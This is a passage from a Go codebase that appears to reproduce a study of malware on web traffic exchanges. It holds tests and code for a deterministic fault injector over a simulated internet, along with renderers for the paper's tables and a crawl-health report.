	baseline := map[string]decision{}
	for _, u := range urls {
		for attempt := 1; attempt <= 3; attempt++ {
			k, ok := hostile.pick(42, u, attempt)
			baseline[u+strconv.Itoa(attempt)] = decision{k, ok}
		}
	}
	// Same inputs from many goroutines must reproduce the same decisions:
	// the function is stateless, so scheduling cannot matter.
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, u := range urls {
				for attempt := 1; attempt <= 3; attempt++ {
					k, ok := hostile.pick(42, u, attempt)
					want := baseline[u+strconv.Itoa(attempt)]
					if k != want.kind || ok != want.ok {
						t.Errorf("pick(42, %q, %d) = (%v, %v), want (%v, %v)",
							u, attempt, k, ok, want.kind, want.ok)
					}
				}
			}
		}()
	}
	wg.Wait()

	// Different seeds must fault different request subsets.
	same := 0
	for _, u := range urls {
		k1, ok1 := hostile.pick(1, u, 1)
		k2, ok2 := hostile.pick(2, u, 1)
		if k1 == k2 && ok1 == ok2 {
			same++
		}
	}
	if same == len(urls) {
		t.Error("seeds 1 and 2 made identical decisions for every URL; seed is not isolating streams")
	}
}

func TestFaultProfileZeroPassesThrough(t *testing.T) {
	_, inj := faultyInternet(FaultProfile{Name: "off"}, 7)
	client := NewClient(inj)
	for i := 0; i < 50; i++ {
		res, err := client.Get("http://site.test/?n="+strconv.Itoa(i), "UA", "")
		if err != nil {
			t.Fatalf("zero profile injected a fault: %v", err)
		}
		if res.Final.StatusCode != 200 {
			t.Fatalf("status = %d, want 200", res.Final.StatusCode)
		}
	}
	if n := len(inj.InjectedCounts()); n != 0 {
		t.Errorf("InjectedCounts() has %d entries for the zero profile", n)
	}
	if inj.Requests() != 50 {
		t.Errorf("Requests() = %d, want 50", inj.Requests())
	}
}

func TestFaultRatesRoughlyObserved(t *testing.T) {
	hostile, _ := ProfileByName("hostile")
	faulted := 0
	const n = 2000
	for i := 0; i < n; i++ {
		if _, ok := hostile.pick(9, "http://u.test/"+strconv.Itoa(i), 1); ok {
			faulted++
		}
	}
	rate := float64(faulted) / n
	want := hostile.TotalRate()
	if rate < want-0.05 || rate > want+0.05 {
		t.Errorf("observed fault rate %.3f, profile promises %.3f", rate, want)
	}
}

func TestFaultConnReset(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultConnReset), 1)
	_, err := NewClient(inj).Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrConnReset) {
		t.Fatalf("err = %v, want ErrConnReset", err)
	}
	if inj.InjectedCounts()["conn-reset"] != 1 {
		t.Errorf("InjectedCounts = %v, want conn-reset: 1", inj.InjectedCounts())
	}
}

func TestFaultTimeout(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultTimeout), 1)
	_, err := NewClient(inj).Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
}

func TestFaultTransient5xx(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultTransient5xx), 1)
	resp, err := inj.RoundTrip(&Request{URL: "http://site.test/"})
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 503 {
		t.Fatalf("status = %d, want 503", resp.StatusCode)
	}
	if resp.Header["Retry-After"] == "" {
		t.Error("503 response is missing Retry-After")
	}
}

func TestFaultRedirectLoopDetectedByClient(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultRedirectLoop), 1)
	res, err := NewClient(inj).Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrRedirectLoop) {
		t.Fatalf("err = %v, want ErrRedirectLoop", err)
	}
	if len(res.Chain) == 0 {
		t.Error("loop error should still carry the partial chain")
	}
}

func TestFaultTruncateSurfacesErrTruncated(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultTruncate), 1)
	res, err := NewClient(inj).Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrTruncated) {
		t.Fatalf("err = %v, want ErrTruncated", err)
	}
	// The partial body must never be handed over as if it were complete.
	if res.Final != nil {
		t.Errorf("truncated fetch still populated Final = %+v", res.Final)
	}
}

func TestFaultTruncateDoesNotMutateSharedResponse(t *testing.T) {
	in := NewInternet()
	shared := HTML("<html><body>shared response body</body></html>")
	origLen := len(shared.Body)
	in.Register("shared.test", func(req *Request) *Response { return shared })
	inj := NewFaultInjector(in, forceProfile(FaultTruncate), 1)
	if _, err := inj.RoundTrip(&Request{URL: "http://shared.test/"}); err != nil {
		t.Fatal(err)
	}
	if len(shared.Body) != origLen || shared.DeclaredLength != 0 {
		t.Errorf("injector mutated the handler's shared response: len=%d declared=%d",
			len(shared.Body), shared.DeclaredLength)
	}
}

func TestFaultTruncateTinyBodyDegradesToReset(t *testing.T) {
	in := NewInternet()
	in.Register("tiny.test", func(req *Request) *Response {
		return &Response{StatusCode: 200, Body: []byte("x")}
	})
	inj := NewFaultInjector(in, forceProfile(FaultTruncate), 1)
	_, err := inj.RoundTrip(&Request{URL: "http://tiny.test/"})
	if !errors.Is(err, ErrConnReset) {
		t.Fatalf("err = %v, want ErrConnReset for un-truncatable body", err)
	}
}

func TestFaultSlowBustsClientBudget(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultSlow), 1)
	client := NewClient(inj)
	client.Budget = 2 * time.Second
	_, err := client.Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("err = %v, want ErrBudget", err)
	}
	// Without a budget the slow response is merely late, not an error.
	client.Budget = 0
	if _, err := client.Get("http://site.test/", "UA", ""); err != nil {
		t.Fatalf("unbudgeted slow fetch failed: %v", err)
	}
}

func TestFaultRetryRerolls(t *testing.T) {
	// With a per-request fault probability p, some (url, attempt) pair
	// within a handful of retries must come up clean: verify at least one
	// URL that faults on attempt 1 succeeds on a later attempt.
	lossy, _ := ProfileByName("lossy")
	recovered := false
	for i := 0; i < 200 && !recovered; i++ {
		url := "http://r.test/" + strconv.Itoa(i)
		if _, ok := lossy.pick(3, url, 1); !ok {
			continue
		}
		for attempt := 2; attempt <= 4; attempt++ {
			if _, ok := lossy.pick(3, url, attempt); !ok {
				recovered = true
				break
			}
		}
	}
	if !recovered {
		t.Error("no faulted URL recovered within 3 retries; attempts are not re-rolling")
	}
}

// TestServeAdapterPropagatesFaults proves injected faults survive the trip
// through a real HTTP stack: reset/timeout abort the TCP connection,
// truncation yields a short read under a full Content-Length, and 5xx
// arrives as a genuine status code — what a human driving curl against
// `slumserve -faults` observes.
func TestServeAdapterPropagatesFaults(t *testing.T) {
	newServer := func(kind FaultKind) (*httptest.Server, *Internet) {
		in, inj := faultyInternet(forceProfile(kind), 1)
		return httptest.NewServer(AsHTTPHandler(inj)), in
	}
	get := func(srv *httptest.Server) (*http.Response, []byte, error) {
		req, _ := http.NewRequest("GET", srv.URL+"/", nil)
		req.Host = "site.test"
		resp, err := srv.Client().Do(req)
		if err != nil {
			return nil, nil, err
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		return resp, body, err
	}

	t.Run("conn-reset aborts the connection", func(t *testing.T) {
		srv, _ := newServer(FaultConnReset)
		defer srv.Close()
		if _, _, err := get(srv); err == nil {
			t.Fatal("expected a transport error, got a clean response")
		}
	})
	t.Run("truncation is a short read", func(t *testing.T) {
		srv, _ := newServer(FaultTruncate)
		defer srv.Close()
		resp, body, err := get(srv)
		if err == nil {
			t.Fatalf("expected an unexpected-EOF read error, got %d bytes cleanly", len(body))
		}
		if resp.StatusCode != 200 {
			t.Errorf("status = %d, want 200 (truncation bites the body, not the header)", resp.StatusCode)
		}
	})
	t.Run("503 passes through as a real status", func(t *testing.T) {
		srv, _ := newServer(FaultTransient5xx)
		defer srv.Close()
		resp, _, err := get(srv)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != 503 {
			t.Errorf("status = %d, want 503", resp.StatusCode)
		}
		if resp.Header.Get("Retry-After") == "" {
			t.Error("Retry-After header did not survive the adapter")
		}
	})
}

// TestServeAdapterThreadsAttempt proves the X-Sim-Attempt header carries
// the retry attempt through a real HTTP hop, so a fault-injected server
// re-rolls per retry exactly like the in-memory transport.
func TestServeAdapterThreadsAttempt(t *testing.T) {
	in := NewInternet()
	var gotAttempt int
	in.Register("probe.test", func(req *Request) *Response {
		gotAttempt = req.Attempt
		return HTML("ok")
	})
	srv := httptest.NewServer(AsHTTPHandler(in))
	defer srv.Close()

	rt := &RealTransport{Base: srv.URL, HTTPClient: srv.Client()}
	client := NewClient(rt)
	if _, err := client.Do("http://probe.test/", "UA", "", 3); err != nil {
		t.Fatal(err)
	}
	if gotAttempt != 3 {
		t.Errorf("server saw attempt %d, want 3", gotAttempt)
	}
}

// TestRealTransportSurfacesTruncation drives the simulated Client over a
// real HTTP connection to a fault-injected server and checks the short
// read maps back onto ErrTruncated.
func TestRealTransportSurfacesTruncation(t *testing.T) {
	_, inj := faultyInternet(forceProfile(FaultTruncate), 1)
	srv := httptest.NewServer(AsHTTPHandler(inj))
	defer srv.Close()

	rt := &RealTransport{Base: srv.URL, HTTPClient: srv.Client()}
	_, err := NewClient(rt).Get("http://site.test/", "UA", "")
	if !errors.Is(err, ErrTruncated) {
		t.Fatalf("err = %v, want ErrTruncated", err)
	}
}

func TestMaxHopsFloor(t *testing.T) {
	in := NewInternet()
	in.Register("hop.test", func(req *Request) *Response {
		return Redirect(req.URL + "x")
	})
	c := NewClient(in)
	c.MaxHops = 1
	res, err := c.Get("http://hop.test/", "UA", "")
	if !errors.Is(err, ErrTooManyRedirects) {
		t.Fatalf("err = %v, want ErrTooManyRedirects at MaxHops=1", err)
	}
	if len(res.Chain) != 1 {
		t.Fatalf("chain length = %d, want exactly the first hop", len(res.Chain))
	}
}

func TestProfileByName(t *testing.T) {
	for _, name := range ProfileNames() {
		p, ok := ProfileByName(name)
		if !ok || p.Name != name {
			t.Errorf("ProfileByName(%q) = (%+v, %v)", name, p, ok)
		}
		if p.TotalRate() > 1 {
			t.Errorf("profile %q rates sum to %.2f > 1", name, p.TotalRate())
		}
	}
	if p, ok := ProfileByName(""); !ok || !p.Zero() {
		t.Errorf(`ProfileByName("") = (%+v, %v), want the off profile`, p, ok)
	}
	if _, ok := ProfileByName("nonsense"); ok {
		t.Error(`ProfileByName("nonsense") resolved`)
	}
}
