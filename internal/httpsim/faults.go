package httpsim

import (
	"errors"
	"fmt"
	"hash/fnv"
	"sync/atomic"
	"time"

	"repro/internal/obs"
)

// This file implements the fault-injection layer: a RoundTripper decorator
// that degrades a perfectly healthy virtual internet into the hostile
// substrate the paper's live crawl actually faced — dead member sites,
// stalling multi-hop redirect chains, servers that reset connections or
// hand back partial bodies, transient 5xx storms. Every decision is a pure
// function of (seed, URL, attempt), so a faulty universe is exactly as
// reproducible as a healthy one: no shared state, no wall clocks, and the
// same fault pattern regardless of goroutine scheduling or worker count.

// Transport-level fault errors. They wrap into the error chain so callers
// classify them with errors.Is.
var (
	// ErrConnReset is the injected analog of ECONNRESET.
	ErrConnReset = errors.New("httpsim: connection reset by peer")
	// ErrTimeout is the injected analog of an i/o timeout dialing or
	// reading from the host.
	ErrTimeout = errors.New("httpsim: i/o timeout")
	// ErrTruncated reports a body shorter than the length the server
	// declared — the Client raises it when a response arrives incomplete.
	ErrTruncated = errors.New("httpsim: truncated body")
	// ErrBudget reports a fetch whose accumulated virtual latency blew
	// through the Client's per-request budget (the deadline analog).
	ErrBudget = errors.New("httpsim: fetch budget exceeded")
)

// FaultKind enumerates the injectable fault classes.
type FaultKind int

// The fault classes, in cumulative-probability walk order.
const (
	FaultConnReset FaultKind = iota
	FaultTimeout
	FaultTruncate
	FaultSlow
	FaultTransient5xx
	FaultRedirectLoop
	numFaultKinds
)

// String implements fmt.Stringer.
func (k FaultKind) String() string {
	switch k {
	case FaultConnReset:
		return "conn-reset"
	case FaultTimeout:
		return "timeout"
	case FaultTruncate:
		return "truncated"
	case FaultSlow:
		return "slow"
	case FaultTransient5xx:
		return "http-5xx"
	case FaultRedirectLoop:
		return "redirect-loop"
	}
	return "unknown"
}

// FaultProfile assigns each fault kind an independent per-request
// probability. The zero value injects nothing.
type FaultProfile struct {
	// Name identifies the profile in flags and reports.
	Name string
	// Rates holds per-kind probabilities; their sum must stay <= 1 (the
	// remainder is the healthy-request probability).
	Rates [numFaultKinds]float64
}

// Zero reports whether the profile injects no faults at all.
func (p FaultProfile) Zero() bool {
	for _, r := range p.Rates {
		if r > 0 {
			return false
		}
	}
	return true
}

// TotalRate is the probability that any given request is faulted.
func (p FaultProfile) TotalRate() float64 {
	sum := 0.0
	for _, r := range p.Rates {
		sum += r
	}
	return sum
}

// Profiles returns the named fault profiles, mildest to nastiest:
//
//	off     — nothing injected (the healthy universe)
//	flaky   — light background unreliability (~12% of requests)
//	lossy   — a lossy network path: resets, timeouts, truncation (~25%)
//	slow    — congested upstreams: stalls and 503 storms (~25%)
//	hostile — everything at once, cloaking-server nastiness included (~40%)
func Profiles() []FaultProfile {
	rates := func(reset, timeout, trunc, slow, s5xx, loop float64) [numFaultKinds]float64 {
		return [numFaultKinds]float64{reset, timeout, trunc, slow, s5xx, loop}
	}
	return []FaultProfile{
		{Name: "off"},
		{Name: "flaky", Rates: rates(0.03, 0.02, 0.02, 0.01, 0.03, 0.01)},
		{Name: "lossy", Rates: rates(0.10, 0.08, 0.07, 0, 0, 0)},
		{Name: "slow", Rates: rates(0, 0.05, 0, 0.15, 0.05, 0)},
		{Name: "hostile", Rates: rates(0.08, 0.07, 0.06, 0.06, 0.08, 0.05)},
	}
}

// ProfileByName resolves a named profile; "" is an alias for "off".
func ProfileByName(name string) (FaultProfile, bool) {
	if name == "" {
		return FaultProfile{Name: "off"}, true
	}
	for _, p := range Profiles() {
		if p.Name == name {
			return p, true
		}
	}
	return FaultProfile{}, false
}

// ProfileNames lists the accepted -faults flag values.
func ProfileNames() []string {
	ps := Profiles()
	out := make([]string, len(ps))
	for i, p := range ps {
		out[i] = p.Name
	}
	return out
}

// pick decides the fault (if any) for one request. The decision hashes
// (seed, url, attempt): stateless, so concurrent crawls of overlapping URL
// sets reach identical decisions in any interleaving, and a retry (attempt
// + 1) re-rolls independently — which is what makes bounded retry an
// effective recovery strategy against transient faults.
func (p FaultProfile) pick(seed uint64, url string, attempt int) (FaultKind, bool) {
	h := fnv.New64a()
	var b [8]byte
	putUint64(b[:], seed)
	h.Write(b[:])
	h.Write([]byte(url))
	putUint64(b[:], uint64(attempt))
	h.Write(b[:])
	// 53 uniform bits -> [0, 1).
	u := float64(h.Sum64()>>11) / float64(1<<53)
	cum := 0.0
	for k, rate := range p.Rates {
		cum += rate
		if rate > 0 && u < cum {
			return FaultKind(k), true
		}
	}
	return 0, false
}

func putUint64(b []byte, v uint64) {
	for i := 0; i < 8; i++ {
		b[i] = byte(v >> (8 * i))
	}
}

// FaultInjector decorates a RoundTripper with a deterministic FaultProfile.
// It is safe for concurrent use; the only mutable state is the injection
// counters, which do not influence decisions.
type FaultInjector struct {
	// Inner is the healthy transport being degraded.
	Inner RoundTripper
	// Profile selects what gets injected and how often.
	Profile FaultProfile
	// Seed isolates fault streams: two injectors with different seeds
	// fault different request subsets.
	Seed uint64
	// SlowPenalty is the extra virtual latency a slow fault adds
	// (default 30s — enough to bust any sane fetch budget).
	SlowPenalty time.Duration
	// Metrics, when set, mirrors the injection counters live into an obs
	// registry (httpsim.requests, httpsim.faults.<kind>) so long-running
	// servers can watch fault pressure without polling InjectedCounts.
	// Nil-safe no-op; never consulted by the decision path.
	Metrics *obs.Registry

	counts [numFaultKinds]atomic.Int64
	total  atomic.Int64
}

var _ RoundTripper = (*FaultInjector)(nil)

// NewFaultInjector wraps inner with the given profile and seed.
func NewFaultInjector(inner RoundTripper, profile FaultProfile, seed uint64) *FaultInjector {
	return &FaultInjector{Inner: inner, Profile: profile, Seed: seed, SlowPenalty: 30 * time.Second}
}

// InjectedCounts reports how many faults of each kind have been injected,
// keyed by FaultKind string. Observability only — never consulted by the
// decision path.
func (f *FaultInjector) InjectedCounts() map[string]int64 {
	out := make(map[string]int64, numFaultKinds)
	for k := FaultKind(0); k < numFaultKinds; k++ {
		if n := f.counts[k].Load(); n > 0 {
			out[k.String()] = n
		}
	}
	return out
}

// Requests returns the total request count seen (faulted or not).
func (f *FaultInjector) Requests() int64 { return f.total.Load() }

// record counts one injected fault, both internally and in the mirror
// registry when one is attached.
func (f *FaultInjector) record(kind FaultKind) {
	f.counts[kind].Add(1)
	f.Metrics.Counter("httpsim.faults." + kind.String()).Inc()
}

// RoundTrip injects the profile's faults around the inner transport.
// Connection-level faults (reset, timeout) and synthetic responses (5xx,
// redirect loop) never reach the inner transport — the "server" is
// unreachable or lying. Payload faults (truncate, slow) degrade the real
// inner response.
func (f *FaultInjector) RoundTrip(req *Request) (*Response, error) {
	f.total.Add(1)
	f.Metrics.Counter("httpsim.requests").Inc()
	kind, faulted := f.Profile.pick(f.Seed, req.URL, req.Attempt)
	if !faulted {
		return f.Inner.RoundTrip(req)
	}

	switch kind {
	case FaultConnReset:
		f.record(kind)
		return nil, fmt.Errorf("%w: %s", ErrConnReset, req.URL)
	case FaultTimeout:
		f.record(kind)
		return nil, fmt.Errorf("%w: %s", ErrTimeout, req.URL)
	case FaultTransient5xx:
		f.record(kind)
		return &Response{
			StatusCode:  503,
			ContentType: "text/html",
			Body:        []byte("<html><body>503 Service Unavailable</body></html>"),
			Header:      map[string]string{"Retry-After": "1"},
			Latency:     syntheticLatency(req.URL),
		}, nil
	case FaultRedirectLoop:
		// A 302 pointing back at the request URL: the Client's visited-set
		// detects the loop on the next hop, exactly as it would against a
		// real misbehaving redirector.
		f.record(kind)
		return &Response{
			StatusCode:  302,
			ContentType: "text/html",
			Location:    req.URL,
			Latency:     syntheticLatency(req.URL),
		}, nil
	}

	resp, err := f.Inner.RoundTrip(req)
	if err != nil {
		return resp, err
	}
	out := *resp // degrade a copy; handler responses may be shared

	switch kind {
	case FaultTruncate:
		if len(out.Body) < 2 {
			// Nothing to truncate (redirect hop, empty page): degrade to a
			// reset so the fault still bites deterministically.
			f.record(FaultConnReset)
			return nil, fmt.Errorf("%w: %s", ErrConnReset, req.URL)
		}
		f.record(kind)
		out.DeclaredLength = len(out.Body)
		out.Body = out.Body[:len(out.Body)/2]
		// The precomputed meta-refresh no longer describes the (now
		// partial) body. The client rejects truncated responses before
		// consulting it, but keep the invariant local: altered body,
		// cleared stamp.
		out.MetaRefresh, out.MetaRefreshKnown = "", false
	case FaultSlow:
		f.record(kind)
		penalty := f.SlowPenalty
		if penalty <= 0 {
			penalty = 30 * time.Second
		}
		out.Latency += penalty
	}
	return &out, nil
}
