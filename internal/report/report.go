// Package report renders the analysis results as the paper's tables and
// figures: aligned ASCII tables for Tables I-IV and text bar charts /
// series plots for Figures 2, 3, 5, 6 and 7. Every renderer takes the
// core.Analysis aggregates, so `cmd/slumreport` and the benchmarks share
// one presentation layer.
package report

import (
	"fmt"
	"math"
	"strings"

	"repro/internal/core"
	"repro/internal/exchange"
	"repro/internal/shortener"
	"repro/internal/stats"
)

// Table renders rows with left-aligned first column and right-aligned
// numeric columns.
type Table struct {
	header []string
	rows   [][]string
}

// NewTable starts a table with the given header.
func NewTable(header ...string) *Table {
	return &Table{header: header}
}

// Row appends a row; short rows are padded.
func (t *Table) Row(cells ...string) *Table {
	for len(cells) < len(t.header) {
		cells = append(cells, "")
	}
	t.rows = append(t.rows, cells)
	return t
}

// String renders the table.
func (t *Table) String() string {
	widths := make([]int, len(t.header))
	for i, h := range t.header {
		widths[i] = len(h)
	}
	for _, r := range t.rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			if i == 0 {
				b.WriteString(pad(c, widths[i], false))
			} else {
				b.WriteString(pad(c, widths[i], true))
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.header)
	total := len(t.header) - 1
	for _, w := range widths {
		total += w + 1
	}
	b.WriteString(strings.Repeat("-", total))
	b.WriteByte('\n')
	for _, r := range t.rows {
		writeRow(r)
	}
	return b.String()
}

func pad(s string, w int, right bool) string {
	if len(s) >= w {
		return s
	}
	fill := strings.Repeat(" ", w-len(s))
	if right {
		return fill + s
	}
	return s + fill
}

func comma(n int) string {
	s := fmt.Sprintf("%d", n)
	if len(s) <= 3 {
		return s
	}
	var parts []string
	for len(s) > 3 {
		parts = append([]string{s[len(s)-3:]}, parts...)
		s = s[:len(s)-3]
	}
	return s + "," + strings.Join(parts, ",")
}

// Table1 renders the Table I analog: per-exchange URL statistics.
func Table1(a *core.Analysis) string {
	t := NewTable("Exchange", "Type", "# URLs", "# Self", "# Popular", "# Regular", "# Malicious", "% Malicious")
	for _, row := range a.PerExchange {
		t.Row(
			row.Name, row.Kind.String(),
			comma(row.Crawled), comma(row.Self), comma(row.Popular),
			comma(row.Regular), comma(row.Malicious),
			stats.Pct(row.PctMalicious()),
		)
	}
	t.Row("TOTAL", "",
		comma(a.TotalCrawled), "", "", comma(a.TotalRegular),
		comma(a.TotalMalicious), stats.Pct(a.OverallPctMalicious()))
	return "TABLE I: STATISTICS OF DATA FROM TRAFFIC EXCHANGES\n" + t.String()
}

// Table2 renders the Table II analog: per-exchange domain statistics.
func Table2(a *core.Analysis) string {
	t := NewTable("Exchange", "# Domains", "# Malware", "% Malware")
	for _, row := range a.PerExchange {
		t.Row(row.Name, comma(row.Domains), comma(row.MalwareDomains),
			stats.Pct(row.PctMalwareDomains()))
	}
	return "TABLE II: STATISTICS OF DOMAINS ON TRAFFIC EXCHANGES\n" + t.String()
}

// Table3 renders the malware categorization (percentages over categorized
// URLs, with the miscellaneous bucket reported separately, as §IV-A does).
func Table3(a *core.Analysis) string {
	t := NewTable("Category", "Count", "Percentage")
	for _, cat := range core.Categories {
		count := a.CategoryCounts.Get(string(cat))
		t.Row(string(cat), comma(count), stats.Pct(a.CategoryCounts.Share(string(cat))))
	}
	out := "TABLE III: MALWARE CATEGORIZATION (over categorized URLs)\n" + t.String()
	out += fmt.Sprintf("Miscellaneous (excluded from percentages): %s of %s malicious URLs (%s)\n",
		comma(a.MiscCount), comma(a.TotalMalicious),
		stats.Pct(stats.Ratio(a.MiscCount, a.TotalMalicious)))
	return out
}

// Table4 renders the malicious shortened-URL hit statistics.
func Table4(rows []shortener.HitStats) string {
	t := NewTable("Shortened URL", "Short Hits", "Long Hits", "Top Country", "Top Referrer")
	for _, r := range rows {
		t.Row(r.ShortURL, comma(r.ShortHits), comma(r.LongHits), r.TopCountry, r.TopReferrer)
	}
	if len(rows) == 0 {
		t.Row("(none observed)", "", "", "", "")
	}
	return "TABLE IV: STATISTICS OF MALICIOUS SHORTENED URLS\n" + t.String()
}

// Figure2 renders malware-ratio bars per exchange, split by kind.
func Figure2(a *core.Analysis) string {
	var b strings.Builder
	b.WriteString("FIGURE 2: MALWARE RATIO IN AUTO-SURF AND MANUAL-SURF EXCHANGES\n")
	for _, kind := range []exchange.Kind{exchange.AutoSurf, exchange.ManualSurf} {
		fmt.Fprintf(&b, "\n(%s)\n", kind)
		for _, row := range a.PerExchange {
			if row.Kind != kind {
				continue
			}
			frac := row.PctMalicious()
			fmt.Fprintf(&b, "%-16s %s %s  (%s benign / %s malware)\n",
				row.Name, bar(frac, 40), stats.Pct(frac),
				comma(row.Regular-row.Malicious), comma(row.Malicious))
		}
	}
	return b.String()
}

// Figure3 renders the cumulative malicious-URL time series per exchange,
// downsampled, with detected bursts annotated.
func Figure3(a *core.Analysis) string {
	var b strings.Builder
	b.WriteString("FIGURE 3: TIME SERIES OF MALICIOUS URLS DETECTED ON TRAFFIC EXCHANGES\n")
	for _, row := range a.PerExchange {
		s := a.Series[row.Name]
		if s == nil || s.Len() == 0 {
			continue
		}
		fmt.Fprintf(&b, "\n%s (%s): %d crawled, %d malicious\n", row.Name, row.Kind, s.Len(), s.Final())
		pts := s.Downsample(24)
		maxY := s.Final()
		if maxY == 0 {
			maxY = 1
		}
		var line strings.Builder
		for _, p := range pts {
			line.WriteByte(sparkChar(p.Y, maxY))
		}
		fmt.Fprintf(&b, "  cumulative: %s\n", line.String())
		window := s.Len() / 20
		if window < 1 {
			window = 1
		}
		bursts := s.Bursts(window, 3)
		if len(bursts) == 0 {
			b.WriteString("  bursts: none (smooth, near-linear growth)\n")
		} else {
			for _, burst := range bursts {
				fmt.Fprintf(&b, "  burst: URLs %d-%d at %.0f%% malicious (paid-campaign signature)\n",
					burst.Start, burst.End, burst.Rate*100)
			}
		}
	}
	return b.String()
}

func sparkChar(y, maxY int) byte {
	const ramp = " .:-=+*#%@"
	idx := y * (len(ramp) - 1) / maxY
	if idx < 0 {
		idx = 0
	}
	if idx >= len(ramp) {
		idx = len(ramp) - 1
	}
	return ramp[idx]
}

// Figure5 renders the redirect-count distribution histogram.
func Figure5(a *core.Analysis) string {
	var b strings.Builder
	b.WriteString("FIGURE 5: DISTRIBUTION OF URL REDIRECTION COUNT (malicious URLs)\n")
	buckets := a.RedirectHist.Buckets()
	maxC := 1
	for _, bk := range buckets {
		if bk.Count > maxC {
			maxC = bk.Count
		}
	}
	for _, bk := range buckets {
		fmt.Fprintf(&b, "%d redirects %s %s\n", bk.Value,
			bar(float64(bk.Count)/float64(maxC), 40), comma(bk.Count))
	}
	if len(buckets) == 0 {
		b.WriteString("(no redirecting malicious URLs observed)\n")
	}
	return b.String()
}

// Figure6 renders the malicious-URL TLD breakdown.
func Figure6(a *core.Analysis) string {
	return shareChart("FIGURE 6: MALICIOUS URLS ACROSS TOP-LEVEL DOMAINS", a.TLDCounts, 4)
}

// Figure7 renders the malicious content-category breakdown.
func Figure7(a *core.Analysis) string {
	return shareChart("FIGURE 7: MALICIOUS CONTENT ACROSS CONTENT CATEGORIES", a.ContentCategories, 4)
}

func shareChart(title string, c *stats.Counter, topK int) string {
	var b strings.Builder
	b.WriteString(title + "\n")
	for _, item := range c.TopK(topK) {
		fmt.Fprintf(&b, "%-24s %s %s (%s)\n", item.Key, bar(item.Share, 40),
			stats.Pct(item.Share), comma(item.Count))
	}
	if c.Total() == 0 {
		b.WriteString("(no data)\n")
	}
	return b.String()
}

// bar renders a width-character bar for a fraction, clamped to [0, 1].
// Callers occasionally hand it count ratios rather than shares (which can
// exceed 1.0) and degenerate divisions (NaN from 0/0); neither may ever
// overflow the bar or panic strings.Repeat with a negative count.
func bar(frac float64, width int) string {
	if math.IsNaN(frac) || frac < 0 {
		frac = 0
	}
	if frac > 1 {
		frac = 1
	}
	n := int(frac*float64(width) + 0.5)
	return "[" + strings.Repeat("#", n) + strings.Repeat(".", width-n) + "]"
}

// CrawlHealthReport renders the crawl-health section: per-exchange fetch
// outcomes, retry effort, and the error taxonomy of everything that
// failed. The paper's crawl ran against a hostile substrate (dead member
// sites, stalling redirect chains, cloaking servers); this section makes
// the degradation explicit so a reader can judge how much of the measured
// malice rate rests on how much surviving data.
func CrawlHealthReport(a *core.Analysis) string {
	var b strings.Builder
	b.WriteString("CRAWL HEALTH: FETCH OUTCOMES AND ERROR TAXONOMY\n")
	h := a.Health
	if h == nil {
		b.WriteString("(no crawl-health data recorded)\n")
		return b.String()
	}
	t := NewTable("Exchange", "# Crawled", "# Analyzed", "# Failed", "% Failed", "# Retries")
	for _, row := range h.PerExchange {
		t.Row(row.Name,
			comma(row.Crawled), comma(row.Crawled-row.Failed),
			comma(row.Failed), stats.Pct(row.PctFailed()),
			comma(row.Retries))
	}
	t.Row("TOTAL",
		comma(a.TotalCrawled), comma(a.TotalAnalyzed()),
		comma(h.TotalFailed), stats.Pct(stats.Ratio(h.TotalFailed, a.TotalCrawled)),
		comma(h.TotalRetries))
	b.WriteString(t.String())
	if !h.Degraded() {
		b.WriteString("(healthy crawl: every fetch succeeded on the first attempt)\n")
		return b.String()
	}
	b.WriteString("\nError taxonomy (failed fetches by final error):\n")
	et := NewTable("Kind", "Count", "Share")
	for _, item := range h.ErrorKinds.Items() {
		et.Row(item.Key, comma(item.Count), stats.Pct(item.Share))
	}
	if h.ErrorKinds.Total() == 0 {
		et.Row("(none)", "", "")
	}
	b.WriteString(et.String())
	return b.String()
}

// Headline renders the dataset summary of §III-A.
func Headline(a *core.Analysis) string {
	return fmt.Sprintf(
		"Dataset: %s URLs crawled (%s distinct) from %s domains across %d exchanges\n"+
			"Regular URLs: %s; detected malicious: %s (%s)\n",
		comma(a.TotalCrawled), comma(a.TotalDistinct), comma(a.TotalDomains),
		len(a.PerExchange), comma(a.TotalRegular), comma(a.TotalMalicious),
		stats.Pct(a.OverallPctMalicious()))
}
