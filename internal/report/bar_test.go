package report

import (
	"math"
	"strings"
	"testing"
)

// TestBarBoundaries table-tests the bar renderer at the clamp boundaries.
// The NaN row is the regression case: before the fix, int(NaN*width+0.5)
// produced an implementation-defined (hugely negative) count and
// strings.Repeat panicked.
func TestBarBoundaries(t *testing.T) {
	const width = 10
	for _, tc := range []struct {
		name string
		frac float64
		fill int // expected number of '#'
	}{
		{"zero", 0, 0},
		{"negative", -0.5, 0},
		{"negative-inf", math.Inf(-1), 0},
		{"half", 0.5, 5},
		{"rounds-up", 0.96, 10},
		{"one", 1, width},
		{"ratio-above-one", 1.7, width},
		{"positive-inf", math.Inf(1), width},
		{"nan", math.NaN(), 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := bar(tc.frac, width)
			if len(got) != width+2 {
				t.Fatalf("bar(%v, %d) = %q: length %d, want %d", tc.frac, width, got, len(got), width+2)
			}
			if !strings.HasPrefix(got, "[") || !strings.HasSuffix(got, "]") {
				t.Fatalf("bar(%v, %d) = %q: missing brackets", tc.frac, width, got)
			}
			if fill := strings.Count(got, "#"); fill != tc.fill {
